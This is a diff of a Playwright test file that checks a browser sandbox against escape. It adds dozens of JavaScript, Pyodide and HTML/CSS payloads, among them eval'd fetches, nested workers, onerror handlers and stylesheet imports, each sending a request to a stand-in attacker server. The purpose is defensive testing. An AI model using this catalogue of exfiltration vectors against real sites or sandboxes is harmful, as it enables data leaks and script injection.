@@ -1,19 +1,24 @@
 """The sandbox's walls: nothing that a program tries reaches the page, its origin or the network.
 
-Every way out is tried three times in JavaScript: outside, where it must arrive, or the test proves
-nothing; in a bare worker of the sandbox, where only the frame's origin and policy stop it; and as a
-person's program, behind both walls.
+Every way out is tried with the walls off first, where it must arrive, or it proves nothing and does
+not count: JavaScript in a worker of the page, Python in a plain Pyodide there, markup in a plain
+frame. Then the same is tried behind the walls. JavaScript is also tried in a bare worker of the
+sandbox, where only the frame's origin and policy stop it.
 """
 
 from __future__ import annotations
 
 import re
+import shutil
+import time
 from collections.abc import Iterator
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, Page
+from playwright.sync_api import Error as PlaywrightError
 
 from tests.browser import sandbox_site
 from tests.browser.sandbox_site import Attacker, Site
@@ -25,8 +30,26 @@ WAYS_OUT = {
     "fetch": "await fetch(URL)",
     "blind fetch": "await fetch(URL, {mode: 'no-cors', method: 'POST', body: 'x'})",
     "kept-alive fetch": "await fetch(URL, {keepalive: true})",
+    "fetch of a Request": "await fetch(new Request(URL, {headers: {a: 'b'}}))",
+    "HEAD": "await fetch(URL, {method: 'HEAD'})",
+    "streamed wasm": "await WebAssembly.compileStreaming(fetch(URL))",
+    "running wasm": "await WebAssembly.instantiateStreaming(fetch(URL))",
+    "fetch from eval": "await (0, eval)(`fetch('${URL}')`)",
+    "fetch from Function": "await new Function('u', 'return fetch(u)')(URL)",
+    "fetch from a constructor": "await (async () => 0).constructor(`await fetch('${URL}')`)()",
+    "fetch from a generator": "await (function* () {}).constructor(`yield fetch('${URL}')`)()"
+    ".next().value",
+    "fetch of a prototype": "await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch"
+    ".call(self, URL)",
+    "fetch from a timer": """await new Promise((r, f) => {
+      const code = `fetch('${URL}').finally(done)`; self.done = r; setTimeout(code, 0);
+      setTimeout(() => f(new Error('nothing')), 1000) })""",
     "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send()",
+    "posting XMLHttpRequest": """const x = new XMLHttpRequest(); x.open('POST', URL);
+      await new Promise((r, f) => { x.onload = r; x.onerror = f; x.send('x') })""",
     "WebSocket": """const s = new WebSocket(URL.replace('http', 'ws'));
+      await new Promise(r => { s.onerror = s.onclose = s.onopen = r })""",
+    "WebSocket with a protocol": """const s = new WebSocket(URL.replace('http', 'ws'), ['secret']);
       await new Promise(r => { s.onerror = s.onclose = s.onopen = r })""",
     "EventSource": """const s = new EventSource(URL);
       await new Promise(r => { s.onerror = s.onopen = r }); s.close()""",
@@ -34,11 +57,29 @@ WAYS_OUT = {
       await Promise.allSettled([t.ready, t.closed])""",
     "importScripts": "importScripts(URL)",
     "import()": "await import(URL)",
+    "import in a module": """await import(self.URL.createObjectURL(new Blob([`import '${URL}'`],
+      {type: 'text/javascript'})))""",
+    "export from a module": """await import(self.URL.createObjectURL(new Blob(
+      [`export * from '${URL}'`], {type: 'text/javascript'})))""",
+    "import of JSON": "await import(URL, {with: {type: 'json'}})",
     "FontFace": "await new FontFace('f', `url(${URL})`).load()",
     "Cache": "await (await caches.open('c')).add(URL)",
+    "Cache of many": "await (await caches.open('c')).addAll([URL, URL + '2'])",
+    "module worker": """const w = new Worker(self.URL.createObjectURL(new Blob(
+      [`import '${URL}'; postMessage(0)`], {type: 'text/javascript'})), {type: 'module'});
+      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
     "worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
         `fetch('${URL}').catch(() => 0).then(() => {
           try { importScripts('${URL}') } catch {} postMessage(0) })`])));
+      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
+    "socket of a worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
+        `const s = new WebSocket('${URL.replace('http', 'ws')}');
+        s.onerror = s.onopen = () => postMessage(0)`])));
+      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
+    "worker in a worker": """const inner = `fetch('${URL}').finally(() => postMessage(0))`;
+      const w = new Worker(self.URL.createObjectURL(new Blob([
+        `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])));
+        w.onmessage = w.onerror = () => postMessage(0)`])));
       await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
     "shared worker": """const w = new SharedWorker(self.URL.createObjectURL(new Blob([
         `onconnect = e => fetch('${URL}').catch(() => 0).then(() => e.ports[0].postMessage(0))`])));
@@ -139,33 +180,170 @@ def test_a_javascript_program_cannot_import_statically(page: Page, attacker: Att
 
 PYTHON_WAYS_OUT = {
     "js.fetch": "import js\nawait js.fetch(URL)",
+    "from js": "from js import fetch\nawait fetch(URL, method='POST', body='x')",
     "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(URL)",
     "open_url": "from pyodide.http import open_url\nopen_url(URL)",
     "pyxhr": "from pyodide.http import pyxhr\npyxhr.get(URL)",
-    "urllib": "from urllib.request import urlopen\nurlopen(URL, timeout=2)",
-    "socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
-    "asyncio": "import asyncio\nawait asyncio.open_connection('127.0.0.1', PORT)",
     "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
-    "WebSocket": "import js\njs.WebSocket.new(URL.replace('http', 'ws'))",
-    "importScripts": "import js\njs.importScripts(URL)",
-    "Worker": "import js\njs.Worker.new(URL)",
+    "WebSocket": "import js\nfrom asyncio import sleep\n"
+    "js.WebSocket.new(URL.replace('http', 'ws'))\nawait sleep(0.3)",
+    "EventSource": "import js\nfrom asyncio import sleep\njs.EventSource.new(URL)\n"
+    "await sleep(0.3)",
+    "Worker": "import js\nfrom asyncio import sleep\nblob = js.Blob.new([f'fetch(\"{URL}\")'])\n"
+    "js.Worker.new(js.URL.createObjectURL(blob))\nawait sleep(0.5)",
+    "FontFace": "import js\nawait js.FontFace.new('f', f'url({URL})').load()",
+    "Cache": "import js\nawait (await js.caches.open('p')).add(URL)",
     "eval": "import js\nawait js.eval(f'import(\"{URL}\")')",
+    "eval of fetch": "import js\nawait js.eval(f'fetch(\"{URL}\")')",
     "run_js": "from pyodide.code import run_js\nawait run_js(f'import(\"{URL}\")')",
     "Function": "import js\nawait js.Function.new(f'return import(\"{URL}\")')()",
     "constructor": "import js\nawait js.Object.constructor(f'return fetch(\"{URL}\")')()",
+    "globalThis": "import js\nawait js.globalThis.fetch(URL)",
+    "Reflect": "import js\nawait js.Reflect.get(js.globalThis, 'fetch')(URL)",
     "timer text": "import js\njs.setTimeout(f'fetch(\"{URL}\")', 0)\n"
-    "from asyncio import sleep\nawait sleep(0.1)\nraise OSError('nothing happened')",
+    "from asyncio import sleep\nawait sleep(0.3)\n",
     "a package": "import pyodide_js\nawait pyodide_js.loadPackage(URL + 'x-1.0-py3-none-any.whl')\n"
     "import x",
+    "the interpreter's own loader": "import pyodide_js\n"
+    "await pyodide_js._module.API.loadBinaryFile(URL, 'x')",
 }
+# No interpreter in a browser can do these, wall or no wall: they have nothing to prove.
+PYTHON_NOT_EVEN_THEN = {
+    "urllib": "from urllib.request import urlopen\nurlopen(URL, timeout=2)",
+    "socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
+    "asyncio": "import asyncio\nawait asyncio.open_connection('127.0.0.1', PORT)",
+}
+
+PLAIN_PYTHON = """base => {
+  const code = `
+    import { loadPyodide } from '${base}plain/pyodide.mjs';
+    const pyodide = await loadPyodide({ indexURL: '${base}plain/' });
+    onmessage = async ({ data }) => {
+      try { await pyodide.runPythonAsync(data); postMessage('done'); }
+      catch (error) { postMessage(String(error)); }
+    };
+    postMessage('ready');`;
+  const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
+  const worker = new Worker(url, { type: 'module' });
+  window.plainPython = code => new Promise(resolve => {
+    worker.onmessage = event => resolve(event.data);
+    worker.postMessage(code);
+  });
+  return new Promise((resolve, reject) => {
+    worker.onmessage = resolve;
+    worker.onerror = error => reject(error.message);
+  });
+}"""
+
+
+@pytest.fixture(scope="module")
+def plain(browser: Browser, site: Site, repository: Path) -> Iterator[Page]:
+    """A page with Pyodide in an ordinary worker, as its manual says."""
+    directory = Path(site.directory) / "plain"
+    shutil.copytree(repository / "node_modules" / "pyodide", directory, dirs_exist_ok=True)
+    context = browser.new_context()
+    page = context.new_page()
+    page.set_default_timeout(120_000)
+    page.goto(site.url)
+    page.evaluate(PLAIN_PYTHON, site.url)
+    yield page
+    context.close()
 
 
 @pytest.mark.parametrize("way", PYTHON_WAYS_OUT)
-def test_a_python_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
+def test_outside_the_attacker_hears_of_python(plain: Page, attacker: Attacker, way: str) -> None:
     code = f"URL, PORT = '{attacker.url}', {attacker.port}\n{PYTHON_WAYS_OUT[way]}"
+    said = plain.evaluate("code => plainPython(code)", code)
+    assert hears(plain, attacker), said
+
+
+@pytest.mark.parametrize("way", {**PYTHON_WAYS_OUT, **PYTHON_NOT_EVEN_THEN})
+def test_a_python_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
+    body = {**PYTHON_WAYS_OUT, **PYTHON_NOT_EVEN_THEN}[way]
+    ended = "\nraise OSError('nothing happened')"
+    code = f"URL, PORT = '{attacker.url}', {attacker.port}\n{body}{ended}"
     result = run(page, "python", code)
     assert result["status"] == "error", result
     assert not hears(page, attacker)
+
+
+# Markup that a value shows; URL is the attacker's.
+MARKUP_WAYS_OUT = {
+    "picture": "<img src=URL>",
+    "set of pictures": "<img srcset='URL 1x'>",
+    "source of a picture": "<picture><source srcset=URL><img></picture>",
+    "drawn picture": "<svg><image href=URL width=9 height=9 /></svg>",
+    "filter": "<svg width=9 height=9><filter id=f><feImage href=URL /></filter>"
+    "<rect width=9 height=9 filter='url(#f)'/></svg>",
+    "style": "<p style='background: url(URL)'>x</p>",
+    "rule": "<style>p { background: url(URL) }</style><p>x</p>",
+    "@import": "<style>@import 'URL';</style>",
+    "font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x",
+    "content": "<style>p::before { content: url(URL) }</style><p>x",
+    "list style": "<ul style='list-style-image: url(URL)'><li>x</ul>",
+    "border": "<p style='border: 9px solid; border-image: url(URL) 9'>x</p>",
+    "mask": "<p style='-webkit-mask: url(URL); background: red'>x</p>",
+    "image-set": "<p style='background: image-set(\"URL\" 1x)'>x</p>",
+    "background attribute": "<table background=URL><tr><td>x</table>",
+    "input picture": "<input type=image src=URL>",
+    "style sheet": "<link rel=stylesheet href=URL>",
+    "preload": "<link rel=preload as=image href=URL>",
+    "prefetch": "<link rel=prefetch href=URL>",
+    "module preload": "<link rel=modulepreload href=URL>",
+    "frame": "<iframe src=URL></iframe>",
+    "frame with text": "<iframe srcdoc='<img src=URL>'></iframe>",
+    "object": "<object data=URL></object>",
+    "embed": "<embed src=URL>",
+    "film": "<video src=URL preload=auto></video>",
+    "poster": "<video poster=URL></video>",
+    "sound": "<audio src=URL preload=auto></audio>",
+    "script": "<script src=URL></script>",
+    "code": "<script>fetch('URL')</script>",
+    "handler": "<img src='data:,' onerror='fetch(\"URL\")'>",
+    "drawn handler": "<svg onload='fetch(\"URL\")'></svg>",
+    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
+    "base": "<base href=URL><img src=relative.png>",
+    "shadow": "<div><template shadowrootmode=open><img src=URL></template></div>",
+    "link": "<a href=URL id=press>x</a>",
+    "link to itself": "<a href=URL target=_self id=press>x</a>",
+    "link to the top": "<a href=URL target=_top id=press>x</a>",
+    "ping": "<a href='#' ping=URL id=press>x</a>",
+    "form": "<form action=URL><button id=press>x</button></form>",
+    "posting form": "<form action=URL method=post target=_blank><button id=press>x</button></form>",
+}
+
+
+def show_markup(page: Page, source: str, attacker: Attacker, how: str) -> None:
+    """Show markup in a frame, press what is in there to be pressed, and wait until it is loaded."""
+    page.evaluate(f"html => arena.{how}(html)", source.replace("URL", attacker.url))
+    if "id=press" in source:
+        page.frame_locator("iframe.shown").locator("#press").click()
+
+
+@pytest.mark.parametrize("way", MARKUP_WAYS_OUT)
+def test_outside_the_attacker_hears_of_markup(
+    browser: Browser, site: Site, attacker: Attacker, way: str
+) -> None:
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(site.url)
+    with suppress(PlaywrightError):  # it may have led the page away
+        show_markup(page, MARKUP_WAYS_OUT[way], attacker, "showPlainly")
+    deadline = time.monotonic() + 5
+    while not attacker.heard and time.monotonic() < deadline:
+        page.wait_for_timeout(20)
+    assert attacker.heard
+    context.close()
+
+
+@pytest.mark.parametrize("way", MARKUP_WAYS_OUT)
+def test_markup_cannot(page: Page, attacker: Attacker, way: str) -> None:
+    show_markup(page, MARKUP_WAYS_OUT[way], attacker, "showMarkup")
+    assert not hears(page, attacker)
+
+
+def test_there_are_at_least_seventy_ways() -> None:
+    assert len(WAYS_OUT) + len(PYTHON_WAYS_OUT) + len(MARKUP_WAYS_OUT) >= 90
 
 
 def test_javascript_finds_nothing_worth_having(page: Page) -> None:
